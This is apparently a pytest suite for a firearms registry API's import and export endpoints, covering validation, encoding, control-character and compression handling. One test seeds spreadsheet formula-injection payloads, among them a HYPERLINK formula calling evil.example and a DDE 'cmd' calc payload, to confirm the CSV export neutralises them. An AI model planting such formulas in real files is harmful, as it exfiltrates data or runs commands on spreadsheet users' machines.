from __future__ import annotations

import codecs
import csv
import datetime as dt
import gzip
import io
import json
from pathlib import Path

import pytest
from litestar.testing import AsyncTestClient

from firearms import db, imports
from tests.conftest import TokenFactory
from tests.db.test_imports import hostile_lines, strict_verdict

PROBLEM = "tag:firearms-registry,2026:problems/"
CSV_HEADER = "kind,firearm_type,manufacturer,country_of_manufacture,serial,model,marking_stamped\n"


async def counts(conn: db.Conn) -> tuple[int, int, int, int]:
    row = await conn.fetchrow(
        "SELECT (SELECT count(*) FROM item), (SELECT count(*) FROM marking), (SELECT count(*) FROM item_import),"
        " (SELECT count(*) FROM journal_entry WHERE action LIKE 'item%')"
    )
    assert row is not None
    return (row[0], row[1], row[2], row[3])


async def test_import_endpoint_takes_csv_body_and_lists_rejections(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    headers = await auth("records-officer")
    body = CSV_HEADER + "firearm,pistol,Glock GmbH,AT,API-1,17,GLOCK API-1\nfirearm,pistol,Glock GmbH,AT,,17,X\n"
    response = await client.post(
        "/api/v1/imports",
        content=body.encode(),
        params={"file_name": "dealer.csv"},
        headers={**headers, "Content-Type": "text/csv"},
    )
    assert response.status_code == 201, response.text
    result = response.json()
    assert (result["inserted"], result["rejected"], result["file_name"]) == (1, 1, "dealer.csv")
    assert result["rejections"] == [
        {"line": 3, "reason": "invalid-serial", "serial": None, "item_id": None, "reasons": ["invalid-serial"]}
    ]
    assert await counts(conn) == (1, 1, 1, 1)


async def test_import_endpoint_refuses_entirely_invalid_body_and_stores_nothing(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    headers = {**(await auth("records-officer")), "Content-Type": "application/x-ndjson"}
    lines = [json.dumps({"kind": "firearm", "serial": "X"}), "nope"]
    response = await client.post("/api/v1/imports", content="\n".join(lines).encode(), headers=headers)
    assert response.status_code == 422
    problem = response.json()
    assert problem["type"] == PROBLEM + "import-rejected"
    assert [r["reason"] for r in problem["rejections"]] == ["invalid-text", "malformed-line"]
    # every fault of a row, not its first alone (no manufacturer, no country, no firearm type, no marking)
    assert [r["reasons"] for r in problem["rejections"]] == [
        ["invalid-text", "invalid-country", "invalid-kind-fields", "marking-required"],
        ["malformed-line"],
    ]
    assert await counts(conn) == (0, 0, 0, 0)


async def test_import_endpoint_refuses_a_line_naming_a_key_twice_and_stores_nothing(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    """Before, ``{"serial": "A1", ..., "serial": "B2"}`` was imported as B2 (201), the A1 dropped unseen."""
    headers = {**(await auth("records-officer")), "Content-Type": "application/x-ndjson"}
    lot = b'{"kind":"ammunition","manufacturer":"Hirtenberger","country_of_manufacture":"AT","quantity":5,'
    body = lot + b'"serial":"A1","serial":"B2"}\n' + lot + b'"ser\\u0069al":"A2","serial":"B3"}\n'
    response = await client.post("/api/v1/imports", content=body, headers=headers)
    assert response.status_code == 422, response.text
    problem = response.json()
    assert problem["type"] == PROBLEM + "import-rejected"
    assert [(r["line"], r["reasons"], r["serial"]) for r in problem["rejections"]] == [
        (1, ["malformed-line"], None),
        (2, ["malformed-line"], None),
    ]
    assert await counts(conn) == (0, 0, 0, 0)


async def test_import_endpoint_judges_hostile_lines_as_a_strict_parser_does(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    """400 seeded lines through the endpoint (``tests/db/test_imports.py``'s hostile lines: escapes, surrogate pairs,
    keys three times, lists named twice): each is ``malformed-line`` exactly when a strict parser finds a key twice or
    a key or value no record has; the others are rejected for what they lack, and nothing is stored."""
    lines = hostile_lines(400, 4848)
    headers = {**(await auth("records-officer")), "Content-Type": "application/x-ndjson"}
    body = ("\n".join(lines) + "\n").encode("utf-8")
    response = await client.post("/api/v1/imports", content=body, headers=headers)
    assert response.status_code == 422, response.text
    reasons = {r["line"]: r["reasons"] for r in response.json()["rejections"]}
    assert sorted(reasons) == list(range(1, len(lines) + 1))
    malformed = [n for n, line in enumerate(lines, 1) if strict_verdict(line)]
    assert 100 < len(malformed) < len(lines) - 50
    assert [n for n in reasons if "malformed-line" in reasons[n]] == malformed
    assert all(reasons[n] == ["malformed-line"] for n in malformed)
    assert await counts(conn) == (0, 0, 0, 0)


async def test_import_endpoint_refuses_unknown_media_type_and_bad_header(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    headers = await auth("records-officer")
    wrong = await client.post("/api/v1/imports", content=b"a,b\n", headers={**headers, "Content-Type": "text/plain"})
    assert wrong.status_code == 422
    assert wrong.json()["type"] == PROBLEM + "import-invalid-file"
    header = await client.post(
        "/api/v1/imports", content=b"a,b\n1,2\n", headers={**headers, "Content-Type": "text/csv"}
    )
    assert header.status_code == 422
    assert header.json()["type"] == PROBLEM + "import-invalid-file"
    assert header.json()["missing_columns"] == ["kind", "manufacturer", "country_of_manufacture", "serial"]
    assert await counts(conn) == (0, 0, 0, 0)


async def test_export_streams_csv_and_ndjson_with_filters(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
) -> None:
    headers = await auth("records-officer")
    body = CSV_HEADER + "".join(
        f"firearm,rifle,Steyr,AT,EX-{n},{'A' if n % 2 else 'B'},STEYR EX-{n}\n" for n in range(4)
    )
    imported = await client.post(
        "/api/v1/imports", content=body.encode(), headers={**headers, "Content-Type": "text/csv"}
    )
    assert imported.status_code == 201
    auditor = await auth("auditor")
    response = await client.get("/api/v1/items/export", params={"format": "csv", "model": "B"}, headers=auditor)
    assert response.status_code == 200
    # one charset parameter: the handler named one and Litestar appended its own to every text/* type
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["serial"] for row in rows] == ["EX-0", "EX-2"]
    assert rows[0]["marking_stamped"] == "STEYR EX-0"
    assert rows[0]["status"] == "active"
    ndjson = await client.get("/api/v1/items/export", params={"format": "ndjson"}, headers=auditor)
    records = [json.loads(line) for line in ndjson.text.splitlines()]
    assert [record["serial"] for record in records] == ["EX-0", "EX-1", "EX-2", "EX-3"]
    reimported = await client.post(
        "/api/v1/imports", content=ndjson.content, headers={**headers, "Content-Type": "application/x-ndjson"}
    )
    assert reimported.status_code == 201
    assert (reimported.json()["inserted"], reimported.json()["already_registered"]) == (0, 4)


@pytest.mark.parametrize(
    "file_name", ["dealer\u0085.csv", "dealer\u009b31m.csv", "a\x1b.csv", "a/b.csv", "dealer.csv\n"]
)
async def test_import_endpoint_refuses_a_file_name_with_a_control_character(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
    file_name: str,
) -> None:
    """The file name is stored, journaled and shown: no C0 or C1 control character (NEL, CSI) in it (text_rules)."""
    headers = await auth("records-officer")
    body = (CSV_HEADER + "firearm,pistol,Glock GmbH,AT,FN-1,17,GLOCK FN-1\n").encode()
    response = await client.post(
        "/api/v1/imports",
        content=body,
        params={"file_name": file_name},
        headers={**headers, "Content-Type": "text/csv"},
    )
    assert response.status_code == 400, response.text
    assert response.json()["type"] == PROBLEM + "invalid-request"
    assert await counts(conn) == (0, 0, 0, 0)


async def test_import_endpoint_refuses_a_compressed_body(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    """A file said to be gzip-compressed is refused, not imported as the bytes it came as (RFC 9110 §8.4)."""
    headers = await auth("records-officer")
    body = (CSV_HEADER + "firearm,pistol,Glock GmbH,AT,GZ-1,17,GLOCK GZ-1\n").encode()
    for content in (body, gzip.compress(body)):
        response = await client.post(
            "/api/v1/imports",
            content=content,
            headers={**headers, "Content-Type": "text/csv", "Content-Encoding": "gzip"},
        )
        assert response.status_code == 422, response.text
        assert response.json()["type"] == PROBLEM + "import-invalid-file"
        assert "Content-Encoding" in response.json()["detail"]
    assert await counts(conn) == (0, 0, 0, 0)


async def test_import_endpoint_refuses_a_body_declared_in_another_charset_than_utf8(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    """A body sent as Latin-1 is not read as UTF-8 as if nothing had been said (its accented rows rejected)."""
    headers = await auth("records-officer")
    body = (
        CSV_HEADER
        + "firearm,pistol,Glock GmbH,AT,CS-1,17,GLOCK CS-1\n"
        + "firearm,pistol,Fabrique Nationale,BE,CS-2,Herstal \xe9,FN CS-2\n"
    )
    latin = await client.post(
        "/api/v1/imports",
        content=body.encode("latin-1"),
        headers={**headers, "Content-Type": "text/csv; charset=ISO-8859-1"},
    )
    assert latin.status_code == 422, latin.text
    assert latin.json()["type"] == PROBLEM + "import-invalid-file"
    assert await counts(conn) == (0, 0, 0, 0)
    utf8 = await client.post(
        "/api/v1/imports", content=body.encode(), headers={**headers, "Content-Type": 'text/csv; charset="UTF-8"'}
    )
    assert utf8.status_code == 201, utf8.text
    assert utf8.json()["inserted"] == 2


async def test_csv_export_neutralises_spreadsheet_formulas_and_imports_back_unchanged(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    headers = await auth("records-officer")
    rows = [
        ("-F1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)"),
        ("F2", "+cmd|' /C calc'!A0", "'=stays quoted"),
        ("F3", "'plain", "MAUSER F3"),
    ]
    lines = [
        json.dumps(
            {
                "kind": "firearm",
                "firearm_type": "rifle",
                "manufacturer": "Mauser",
                "country_of_manufacture": "DE",
                "serial": serial,
                "model": model,
                "marking_stamped": stamped,
            }
        )
        for serial, model, stamped in rows
    ]
    imported = await client.post(
        "/api/v1/imports",
        content=("\n".join(lines) + "\n").encode(),
        headers={**headers, "Content-Type": "application/x-ndjson"},
    )
    assert imported.status_code == 201, imported.text
    assert imported.json()["inserted"] == 3
    stored = await conn.fetch("SELECT serial, model FROM item ORDER BY item_id")
    assert [(r["serial"], r["model"]) for r in stored] == [(serial, model) for serial, model, _ in rows]

    export = await client.get("/api/v1/items/export", params={"format": "csv"}, headers=headers)
    assert export.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    # A spreadsheet evaluates a cell that begins with = + - @ as a formula: none may reach it as one.
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@"}]
    exported = list(csv.DictReader(io.StringIO(export.text)))
    assert exported[0]["model"] == "'" + rows[0][1]
    assert exported[1]["marking_stamped"] == "''=stays quoted"
    assert exported[2]["model"] == "'plain"

    # and the export imports into another registry as it is (here: the same identities, none rejected)
    again = await client.post(
        "/api/v1/imports", content=export.content, headers={**headers, "Content-Type": "text/csv"}
    )
    assert again.status_code == 201, again.text
    assert (again.json()["already_registered"], again.json()["rejected"]) == (3, 0)


async def test_import_of_a_csv_whose_header_is_not_utf8_is_refused_as_a_problem(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    conn: db.Conn,
) -> None:
    # A Latin-1 file from a spreadsheet: its accented column name could not be put in the problem (500).
    headers = {**(await auth("records-officer")), "Content-Type": "text/csv"}
    body = "kind,manufacturer,country_of_manufacture,serial,Modèle\nfirearm,Steyr,AT,L1-1,SSG\n".encode("latin-1")
    response = await client.post("/api/v1/imports", content=body, headers=headers)
    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"
    problem = response.json()
    assert problem["type"] == PROBLEM + "import-invalid-file"
    assert problem["unknown_columns"] == ["Mod\ufffdle"]
    assert await counts(conn) == (0, 0, 0, 0)


async def test_csv_export_opens_in_a_spreadsheet_without_the_officers_and_imports_into_another_registry(
    client: AsyncTestClient,  # type: ignore[type-arg]
    auth: TokenFactory,
    empty_database: str,
    tmp_path: Path,
) -> None:
    # Excel reads a CSV file without a byte-order mark in the machine's code page: Č, Ł, ß became mojibake.
    # registered_by names the officer who registered each item: staff data a licensing authority has no use
    # for (an auditor reads it in the item's history, where the read is journaled).
    officer = await auth("records-officer")
    names = [("Česká zbrojovka a.s.", "CZ"), ("Fabryka Broni Łucznik", "PL"), ("J. P. Sauer & Sohn Groß", "DE")]
    for number, (manufacturer, country) in enumerate(names):
        body = {
            "kind": "firearm",
            "firearm_type": "pistol",
            "manufacturer": manufacturer,
            "country_of_manufacture": country,
            "serial": f"BOM-{number}",
            "markings": [{"kind": "manufacture", "stamped": f"{manufacturer} BOM-{number}"}],
        }
        response = await client.post("/api/v1/items", json=body, headers=officer)
        assert response.status_code == 201, response.text
    auditor = await auth("auditor")
    export = await client.get("/api/v1/items/export", params={"format": "csv"}, headers=auditor)
    assert export.status_code == 200
    assert export.content.startswith(codecs.BOM_UTF8 + b"item_id,")
    assert export.content.count(codecs.BOM_UTF8) == 1  # once, before the header: not at every chunk
    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert [row["manufacturer"] for row in rows] == [name for name, _ in names]
    assert "registered_by" not in rows[0]
    assert b"test records-officer" not in export.content  # the officer's token name
    ndjson = await client.get("/api/v1/items/export", params={"format": "ndjson"}, headers=auditor)
    assert not ndjson.content.startswith(codecs.BOM_UTF8)
    assert "registered_by" not in json.loads(ndjson.text.splitlines()[0])

    # the file as a licensing authority receives it imports into its registry as it is
    path = tmp_path / "hand-over.csv"
    path.write_bytes(export.content)
    other = await db.connect(empty_database)
    try:
        await db.migrate(other)
        result = await imports.import_file(other, path, actor="DE records", today=dt.datetime.now(dt.UTC).date())
        assert (result.inserted, result.rejected) == (3, 0)
        got = await other.fetch(
            "SELECT i.manufacturer, i.country_of_manufacture, i.serial, m.stamped, i.registered_by"
            "  FROM item AS i JOIN marking AS m USING (item_id) ORDER BY i.serial"
        )
        assert [(r[0], r[1], r[2], r[3]) for r in got] == [
            (name, country, f"BOM-{n}", f"{name} BOM-{n}") for n, (name, country) in enumerate(names)
        ]
        assert {r["registered_by"] for r in got} == {"DE records"}
    finally:
        await other.close()
